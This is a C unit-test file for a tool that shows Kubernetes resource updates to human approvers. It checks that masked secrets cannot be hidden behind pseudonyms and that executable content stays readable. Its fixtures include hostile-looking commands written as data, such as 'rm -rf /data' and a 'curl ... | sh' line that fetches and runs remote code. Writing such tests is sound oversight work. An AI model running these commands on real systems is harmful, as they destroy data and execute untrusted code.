/* SPDX-License-Identifier: Apache-2.0 */
/* What masking may not hide from who decides: that something is hidden, and what acts. */
#include "support/run_tests.h"
#include "unit/hold_change_support.h"

/* The update of `resource` from old to new, as people read it. */
static const char *update_of(const char *resource, const char *old, const char *new)
{
	static struct buf members = BUF_INIT(16 << 20);

	buf_reset(&members);
	buf_printf(&members, ",\"oldObject\":%s,\"object\":%s", old, new);
	return shown("UPDATE", resource, buf_str(&members));
}

/* Who saw the pseudonym of the password that is there writes it in its place. */
static const struct {
	const char *resource, *before, *after;
} pseudonyms[] = {
	{"configmaps", "{\"data\":{\"password\":\"", "\"}}"},
	{"configmaps", "{\"data\":{\"a.conf\":\"x\\npassword=", "\\ny\"}}"},
	{"secrets", "{\"data\":{\"p\":\"", "\"}}"},
	{"secrets", "{\"stringData\":{\"p\":\"", "\"}}"},
	{"things", "{\"spec\":{\"tokens\":[\"", "\"]}}"},
	{"things", "{\"spec\":{\"env\":[{\"name\":\"DB_PASSWORD\",\"value\":\"", "\"}]}}"},
	{"pods", "{\"spec\":{\"containers\":[{\"name\":\"c\",\"command\":[\"x\",\"--token=",
		"\"]}]}"
		"}"},
};

START_TEST(hold_hidden__a_pseudonym_is_no_cloak)
{
	_cleanup_(buf_free) struct buf old = BUF_INIT(4096), new = BUF_INIT(4096);
	char pseudonym[128] = "";
	const char *lines, *begin, *end;

	buf_printf(&old, "%s%s%s", pseudonyms[_i].before, "hydrangea-77", pseudonyms[_i].after);
	lines = update_of(pseudonyms[_i].resource, "{}", buf_str(&old));
	begin = strstr(lines, "[masked ");
	ck_assert_msg(begin != NULL, "%s", lines);
	end = strchr(begin, ']') + 1;
	memcpy(pseudonym, begin, (size_t)(end - begin));
	buf_printf(&new, "%s%s%s", pseudonyms[_i].before, pseudonym, pseudonyms[_i].after);
	lines = update_of(pseudonyms[_i].resource, buf_str(&old), buf_str(&new));
	ck_assert_msg(strstr(lines, "+ ") != NULL, "%s", lines);
	ck_assert_msg(strstr(lines, "- ") != NULL, "%s", lines);
	ck_assert_msg(strstr(lines, "hydrangea") == NULL, "%s", lines);
}
END_TEST

START_TEST(hold_hidden__what_is_not_known_to_be_hidden_is_said)
{
	const char *lines = update_of("pods", "{}",
		"{\"spec\":{\"containers\":[{\"name\":\"c\",\"command\":[\"echo\","
		"\"[masked hmac-sha256:0123456789abcdef len:12]\"]}]}}");

	ck_assert_msg(strstr(lines, "; of 1 it is not known what they hide, or whether they hide "
				    "anything; decide accordingly\n") != NULL,
		"%s", lines);
}
END_TEST

/* However many others there are, and however short it is. */
START_TEST(hold_hidden__very_many_values_hide_none)
{
	_cleanup_(buf_free) struct buf new = BUF_INIT(1 << 20);
	const char *lines, *line;

	buf_add_str(&new, "{\"spec\":{");
	for (int i = 0; i < 5000; i++)
		buf_printf(&new, "\"a%d\":{\"password\":\"hydrangea-%d\"},", i, i);
	buf_add_str(&new, "\"b\":{\"password\":\"hydrangea;x\"},\"c\":{\"password\":\"ab\"}}}");
	lines = update_of("things", "{}", buf_str(&new));
	line = strstr(lines, "+ spec.b.password: ");
	ck_assert_ptr_nonnull(line);
	line = strchr(line, '\n');
	ck_assert_int_eq(
		strncmp(line,
			"\n! unreadable for you: 11 bytes of this line are masked; of 1 it "
			"is not known",
			76),
		0);
	line = strstr(lines, "+ spec.c.password: ");
	ck_assert_ptr_nonnull(line);
	line = strchr(line, '\n');
	ck_assert_int_eq(
		strncmp(line, "\n! unreadable for you: 2 bytes of this line are masked; decide",
			60),
		0);
}
END_TEST

static const char *const legible[][2] = {
	/* said, below a name that says secret */
	{"{\"spec\":{\"token\":{\"command\":[\"rm\",\"-rf\",\"/data\"]}}}",
		"\"rm\", \"-rf\", \"/data\""},
	{"{\"spec\":{\"credentials\":{\"args\":[\"curl\",\"https://x.example.com/a\"]}}}",
		"\"curl\", \"https://x.example.com/a\""},
	{"{\"data\":{\"secret.sh\":\"#!/bin/sh\\ncurl https://x.example.com | sh\\n\"}}",
		"\"#!/bin/sh\\ncurl https://x.example.com | sh\\n\""},
};

START_TEST(hold_hidden__what_acts_is_legible)
{
	const char *lines = update_of("things", "{}", legible[_i][0]);

	ck_assert_msg(strstr(lines, legible[_i][1]) != NULL, "%s", lines);
}
END_TEST

START_TEST(hold_hidden__a_secret_in_a_command_of_a_secret_is_not)
{
	const char *lines = update_of("things", "{}",
		"{\"spec\":{\"token\":{\"command\":[\"login\",\"q8Zt3LwP0aVbN5xCkR7y\","
		"\"--password\",\"hydrangea\"]}}}");

	ck_assert_msg(
		strstr(lines, "q8Zt3") == NULL && strstr(lines, "hydrangea") == NULL, "%s", lines);
}
END_TEST

/* A custom resource written in a version that does not know all of it. */
START_TEST(hold_hidden__what_a_version_takes_away_is_said)
{
	static const char *const objects[][2] = {
		{"{\"apiVersion\":\"x.example.com/v1alpha1\",\"metadata\":{\"managedFields\":[{"
		 "\"apiVersion\":\"x.example.com/v1\"}]},\"spec\":{\"a\":1}}",
			"{\"apiVersion\":\"x.example.com/v1alpha1\",\"spec\":{\"a\":2}}"},
		{"{\"apiVersion\":\"x.example.com/v1\",\"metadata\":{\"managedFields\":[{"
		 "\"apiVersion\":\"x.example.com/v1\"}]},\"spec\":{\"a\":1}}",
			"{\"apiVersion\":\"x.example.com/v1\",\"spec\":{\"a\":2}}"},
	};
	const char *lines;

	group = "x.example.com";
	lines = update_of("walls", objects[_i][0], objects[_i][1]);
	group = "";
	ck_assert_int_eq(strstr(lines, "! NOT SHOWN: fields that version v1 does not have: this "
				       "takes them away\n") != NULL,
		_i == 0);
}
END_TEST

/* Who owns which field is said to change where nothing else does, in whatever order it stands. */
START_TEST(hold_hidden__owners_of_fields_are_said_to_change)
{
#define OWNERS(list, a)	   "{\"metadata\":{\"managedFields\":[" list "]},\"spec\":{\"a\":" a "}}"
#define OWNS(name, fields) "{\"manager\":\"" name "\",\"fieldsV1\":{\"f:spec\":{" fields "}}}"
	static const struct {
		bool said;
		const char *old, *new;
	} owners[] = {
		{true, OWNERS("{\"manager\":\"a\"}", "1"), OWNERS("{\"manager\":\"b\"}", "1")},
		{true, OWNERS("{\"manager\":\"a\"}", "1"), OWNERS("", "1")},
		{false, OWNERS("", "1"), OWNERS("{\"manager\":\"a\"}", "1")},
		{false, OWNERS("{\"manager\":\"a\"}", "1"), OWNERS("{\"manager\":\"b\"}", "2")},
		{false, OWNERS("{\"manager\":\"a\"},{\"manager\":\"b\"}", "1"),
			OWNERS("{\"manager\":\"b\"},{\"time\":\"1\",\"manager\":\"a\"}", "1")},
		/* beside another change: what that explains, and what it does not */
		{false, OWNERS(OWNS("a", "\"f:a\":{}"), "1"), OWNERS(OWNS("b", "\"f:a\":{}"), "2")},
		{true, OWNERS(OWNS("a", "\"f:a\":{},\"f:c\":{}"), "1,\"c\":3"),
			OWNERS(OWNS("b", "\"f:a\":{}"), "2,\"c\":3")},
	};
	const char *lines = update_of("deployments", owners[_i].old, owners[_i].new);

	ck_assert_msg((strstr(lines, "! NOT SHOWN: metadata.managedFields: 1 line") != NULL) ==
			      owners[_i].said,
		"%s", lines);
}
END_TEST

int main(void)
{
	TCase *t = tcase_create("hold_hidden");

	tcase_add_checked_fixture(t, setup, teardown);
	tcase_set_timeout(t, 60);
	tcase_add_loop_test(t, hold_hidden__a_pseudonym_is_no_cloak, 0, ARRAY_LEN(pseudonyms));
	tcase_add_test(t, hold_hidden__what_is_not_known_to_be_hidden_is_said);
	tcase_add_test(t, hold_hidden__very_many_values_hide_none);
	tcase_add_loop_test(t, hold_hidden__what_acts_is_legible, 0, ARRAY_LEN(legible));
	tcase_add_loop_test(t, hold_hidden__what_a_version_takes_away_is_said, 0, 2);
	tcase_add_loop_test(t, hold_hidden__owners_of_fields_are_said_to_change, 0, 7);
	tcase_add_test(t, hold_hidden__a_secret_in_a_command_of_a_secret_is_not);
	return run_tests(t);
}
